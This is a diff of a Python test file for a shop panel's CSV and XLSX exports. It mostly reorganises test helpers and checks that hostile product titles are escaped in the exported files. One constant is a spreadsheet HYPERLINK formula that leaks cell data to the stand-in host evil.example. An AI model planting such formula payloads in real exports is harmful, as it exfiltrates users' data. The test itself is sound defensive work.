@@ -11,14 +11,11 @@ from openpyxl import load_workbook
 from sqlalchemy import update
 from sqlalchemy.orm import Session, sessionmaker
 
-from tests import test_panel_http as base
-from tests.test_panel_dashboard import _lena, _shop
+from tests.conftest import logged_in
+from tests.factories import dashboard_cases
 from tickets.exports import csv_bytes, xlsx_bytes
 from tickets.models import OrderLine
 from tickets.service import Context
-
-panel_app = base.panel_app
-ctx = base.ctx
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -32,12 +29,12 @@ def _products_csv(lena: Any) -> list[list[str]]:
 def test_a_product_title_never_runs_as_a_formula_and_control_characters_do_not_break_xlsx(
     panel_app: Any, sessions: sessionmaker[Session], ctx: Context
 ) -> None:
-    _shop(sessions, ctx, n=1)
+    dashboard_cases(sessions, ctx, n=1)
     with sessions() as s:
         s.execute(update(OrderLine).where(OrderLine.sku == "SOCKS").values(title=HOSTILE + "\x07"))
         s.execute(update(OrderLine).where(OrderLine.sku == "TEA").values(title="@SUM(1+1)\x1b"))
         s.commit()
-    lena = _lena(panel_app)
+    lena = logged_in(panel_app, "lena")
     rows = _products_csv(lena)
     titles = {row[0]: row[1] for row in rows[1:]}
     assert titles["SOCKS"] == "'" + HOSTILE
